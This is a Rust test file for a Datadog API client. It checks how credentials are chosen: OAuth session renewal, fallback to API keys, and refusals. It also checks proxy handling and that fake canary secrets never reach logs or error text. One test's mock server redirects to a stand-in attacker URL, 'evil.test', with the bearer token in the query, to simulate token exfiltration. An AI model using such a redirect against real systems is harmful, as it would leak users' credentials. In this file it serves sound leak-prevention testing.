//! Which identity acts: renewal after a 401, the probe, keys in a session's stead, and secrets that show nowhere.

use crate::loopback::{Act, Received, Script, Server, answer, config, json, op, read, secret, send, write};
use datadog_client::{
    CallLimits, Cause, Client, ClientConfig, Configuration, ConfiguredCredentials, Credential, CredentialKind, Keys, Kind, Principal,
    Secret, Site, Trust,
};
use std::io::Write;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

const WHO_AM_I: &str = "/api/v2/current_user";

fn session(token: &str) -> Credential {
    Credential {
        kind: CredentialKind::Oauth,
        bearer: Some(secret(token)),
        granted: Some(std::collections::BTreeSet::new()),
        ..Credential::none("default")
    }
}

fn keys() -> Credential {
    let keys = Keys { api: Secret::new("fake-api-key-canary".to_owned()), app: Some(secret("fake-app-key-canary")) };
    Credential { kind: CredentialKind::Keys, keys: Some(keys), ..Credential::none("default") }
}

fn script(first: Credential, fallback: Option<Credential>, renewed: Option<Credential>) -> Arc<Script> {
    Arc::new(Script { first, fallback, renewed, renewals: AtomicUsize::new(0) })
}

fn unauthorized() -> Act {
    Act::Answer(json("401 Unauthorized", r#"{"errors":["Unauthorized"]}"#))
}

fn ok() -> Act {
    Act::Answer(json("200 OK", "{}"))
}

fn token(received: &Received) -> &str {
    received.header("authorization").and_then(|value| value.strip_prefix("Bearer ")).unwrap_or_default()
}

#[tokio::test]
async fn a_stale_session_is_renewed_once_and_the_call_goes_on() {
    let server = Server::start(|_, r| if token(r) == "fake-fresh" { ok() } else { unauthorized() }).await;
    for request in [read(), write()] {
        let source = script(session("fake-stale"), Some(keys()), Some(session("fake-fresh")));
        let client = Client::new(config(), server.site(), source.clone()).unwrap();
        let reply = send(&client, &request).await.unwrap();
        assert_eq!((reply.identity.kind, reply.identity.instead_of), (CredentialKind::Oauth, None));
        assert_eq!(source.renewals.load(Ordering::SeqCst), 1);
    }
}

#[tokio::test]
async fn a_session_that_stays_refused_ends_as_expired() {
    let server = Server::start(|_, _| unauthorized()).await;
    let source = script(session("fake-stale"), Some(keys()), Some(session("fake-fresh")));
    let client = Client::new(config(), server.site(), source.clone()).unwrap();
    let refusal = send(&client, &read()).await.unwrap_err();
    assert_eq!((refusal.kind, refusal.cause), (Kind::PermissionDenied, Some(Cause::TokenExpired)));
    assert_eq!(refusal.fixes[0].action, "auth_login");
    assert_eq!(source.renewals.load(Ordering::SeqCst), 1);
    // Call, probe, call with the fresh token, probe; a dead token is no reason to act as someone else.
    assert_eq!(server.requests().iter().map(|r| r.path().to_owned()).filter(|p| p == WHO_AM_I).count(), 2);
    assert_eq!(server.count(), 4);
}

#[tokio::test]
async fn a_route_without_oauth_is_told_by_the_probe_and_answered_by_keys() {
    let server = Server::start(|_, r| if r.path() == WHO_AM_I || r.header("dd-api-key").is_some() { ok() } else { unauthorized() }).await;
    let source = script(session("fake-good"), Some(keys()), Some(session("fake-never")));
    let client = Client::new(config(), server.site(), source.clone()).unwrap();
    let reply = send(&client, &write()).await.unwrap();
    assert_eq!((reply.identity.kind, reply.tries), (CredentialKind::Keys, 2));
    assert!(reply.identity.instead_of.unwrap().contains("takes no OAuth"));
    assert_eq!(source.renewals.load(Ordering::SeqCst), 0, "a good token gains nothing from being renewed");
    let requests = server.requests();
    assert_eq!(requests.iter().map(Received::path).collect::<Vec<_>>(), ["/api/v2/incidents", WHO_AM_I, "/api/v2/incidents"]);
    assert!(requests[1].header("dd-api-key").is_none() && requests[2].header("authorization").is_none());

    // Without keys: the refusal says so.
    let client = Client::new(config(), server.site(), script(session("fake-good"), None, None)).unwrap();
    let refusal = send(&client, &read()).await.unwrap_err();
    assert_eq!((refusal.cause, refusal.fixes[0].action.as_str()), (Some(Cause::OauthNotAccepted), "set_keys"));
}

#[tokio::test]
async fn a_missing_scope_is_answered_by_keys_once() {
    const NAMED: &str = r#"{"errors":["Missing required permission: 'built_in_features'"]}"#;
    let request = datadog_client::Request::new(op("x.ListDatabaseQuerySamples")).body(serde_json::json!({})).build().unwrap();
    let server =
        Server::start(|_, r| if r.header("dd-api-key").is_some() { ok() } else { Act::Answer(json("403 Forbidden", NAMED)) }).await;
    let client = Client::new(config(), server.site(), script(session("fake-good"), Some(keys()), None)).unwrap();
    let reply = send(&client, &request).await.unwrap();
    assert!(reply.identity.instead_of.unwrap().contains("built_in_features"));
    assert_eq!(server.requests()[0].path(), "/api/v1/logs-analytics/list?type=databasequery");

    // Keys are refused too: the last word is theirs, and the first is told.
    let server = Server::always(json("403 Forbidden", NAMED)).await;
    let client = Client::new(config(), server.site(), script(session("fake-good"), Some(keys()), None)).unwrap();
    let refusal = send(&client, &request).await.unwrap_err();
    assert_eq!((refusal.cause, server.count()), (Some(Cause::KeyLacksScope), 2));
    assert_eq!(refusal.credential.as_ref().unwrap().kind, "keys");
    assert!(refusal.why.unwrap().contains("before that, the sign-in session was refused"));
}

#[tokio::test]
async fn a_role_that_lacks_the_permission_is_no_reason_to_act_as_someone_else() {
    let server = Server::always(json("403 Forbidden", r#"{"errors":["Forbidden"]}"#)).await;
    let mut first = session("fake-good");
    first.granted = Some(["logs_read_data".to_owned()].into());
    let client = Client::new(config(), server.site(), script(first, Some(keys()), None)).unwrap();
    assert_eq!(send(&client, &read()).await.unwrap_err().cause, Some(Cause::RoleLacksPermission));
    assert_eq!(server.count(), 1);
}

#[tokio::test]
async fn an_api_key_operation_gets_no_more_than_the_api_key() {
    let server = Server::always(json("202 Accepted", "{}")).await;
    let both = Configuration {
        bearer: Some(secret("fake-token-canary")),
        api_key: Some(secret("fake-api-key-canary")),
        app_key: Some(secret("fake-app-key-canary")),
        ..Configuration::default()
    };
    let client = Client::new(config(), server.site(), Arc::new(ConfiguredCredentials::new(both).unwrap())).unwrap();
    let request = datadog_client::Request::new(op("v2.SubmitLog")).body(serde_json::json!([])).build().unwrap();
    send(&client, &request).await.unwrap();
    send(&client, &datadog_client::Request::new(op("v1.GetIPRanges")).build().unwrap()).await.unwrap();
    send(&client, &read()).await.unwrap();
    let seen: Vec<[bool; 3]> = server
        .requests()
        .iter()
        .map(|r| ["dd-api-key", "dd-application-key", "authorization"].map(|name| r.header(name).is_some()))
        .collect();
    assert_eq!(seen, [[true, false, false], [false, false, false], [true, true, true]]);
}

#[tokio::test]
async fn nothing_configured_sends_nothing() {
    let server = Server::always(json("200 OK", "{}")).await;
    let none = ConfiguredCredentials::new(Configuration::default()).unwrap();
    let client = Client::new(config(), server.site(), Arc::new(none)).unwrap();
    assert_eq!(send(&client, &read()).await.unwrap_err().kind, Kind::SignInRequired);
    assert_eq!(server.connections(), 0);
}

#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<u8>>>);

impl Write for Log {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn no_secret_reaches_a_log_an_error_or_a_debug_print() {
    let log = Log::default();
    let writer = log.clone();
    let subscriber = tracing_subscriber::fmt().with_max_level(tracing::Level::TRACE).with_writer(move || writer.clone()).finish();
    let guard = tracing::subscriber::set_default(subscriber);
    let mut shown = Vec::new();
    for act in 0..5 {
        // The server repeats what it was sent, as a gateway might.
        let server = Server::start(move |_, r| match act {
            0 => ok(),
            1 => unauthorized(),
            2 => Act::Answer(json("403 Forbidden", r#"{"errors":["Forbidden"]}"#)),
            3 => Act::Close(Vec::new()),
            _ => Act::Answer(answer("302 Found", &[("location", &format!("http://evil.test/?leak={}", token(r)))], "")),
        })
        .await;
        let both = Configuration {
            bearer: Some(secret("fake-token-canary")),
            api_key: Some(secret("fake-api-key-canary")),
            app_key: Some(secret("fake-app-key-canary")),
            ..Configuration::default()
        };
        let source = Arc::new(ConfiguredCredentials::new(both).unwrap());
        let proxy = Some(secret("http://fake-user:fake-password-canary@127.0.0.1:1"));
        let client = Client::new(ClientConfig { proxy: proxy.filter(|_| act == 4), ..config() }, server.site(), source).unwrap();
        let outcome = send(&client, &write()).await;
        shown.push(format!("{outcome:?} {client:?} {:?} {:?}", client.credentials(), write()));
        if let Err(refusal) = outcome {
            shown.push(format!("{refusal} {}", serde_json::to_string(&refusal).unwrap()));
        }
    }
    drop(guard);
    let log = String::from_utf8(log.0.lock().unwrap().clone()).unwrap();
    assert!(log.contains("/api/v2/incidents"), "{log}");
    for text in [log, shown.concat()] {
        assert!(!text.contains("canary"), "{text}");
    }
}

#[tokio::test]
async fn a_proxy_is_used_when_given_and_refused_when_unusable() {
    let proxy = Server::always(json("200 OK", "[1]")).await;
    let url = proxy.url().replace("http://", "http://fake-user:fake-password@");
    let config = ClientConfig { proxy: Some(secret(&url)), ..config() };
    let site = Site::parse("http://upstream.test:8126", Trust::Operator).unwrap();
    let client = Client::new(config.clone(), site.clone(), script(keys(), None, None)).unwrap();
    let Ok(()) = client.warm() else {
        println!("skipped: no root certificates here");
        return;
    };
    send(&client, &read()).await.unwrap();
    let request = &proxy.requests()[0];
    assert!(request.line.starts_with("GET http://upstream.test:8126/api/v2/logs/events?"), "{}", request.line);
    assert!(request.header("proxy-authorization").unwrap().starts_with("Basic "));
    for bad in ["socks5://fake-user:fake-password@x", "not a url", "http://"] {
        let refusal =
            Client::new(ClientConfig { proxy: Some(secret(bad)), ..config.clone() }, site.clone(), script(keys(), None, None)).unwrap_err();
        assert!(refusal.message.contains("proxy") && !format!("{refusal:?}").contains("fake-password"), "{refusal:?}");
    }
    for bad in [&b"not a certificate"[..], b"-----BEGIN CERTIFICATE-----\n????\n-----END CERTIFICATE-----\n"] {
        let config = ClientConfig { proxy: None, extra_roots_pem: Some(bad.to_vec()), ..config.clone() };
        let refusal = Client::new(config, site.clone(), script(keys(), None, None)).unwrap_err();
        assert!(refusal.message.contains("root certificates"), "{refusal:?}");
    }
}

#[tokio::test]
async fn callers_are_kept_apart_under_load() {
    let server = Server::start(|_, r| Act::Answer(json("200 OK", &format!("\"{}\"", r.path())))).await;
    let client = Client::new(config(), server.site(), script(keys(), None, None)).unwrap();
    let mut tasks = Vec::new();
    for n in 0..64 {
        let client = client.clone();
        tasks.push(tokio::spawn(async move {
            let request = datadog_client::Request::new(op("v2.GetIncident")).segment("incident_id", n).build().unwrap();
            let who = Principal::verified(&format!("caller-{n}"));
            let reply = client.send(&who, &request, &CallLimits::default()).await.unwrap();
            assert_eq!(reply.json().unwrap(), serde_json::json!(format!("/api/v2/incidents/{n}")));
        }));
    }
    for task in tasks {
        task.await.unwrap();
    }
    assert_eq!(server.count(), 64);
}
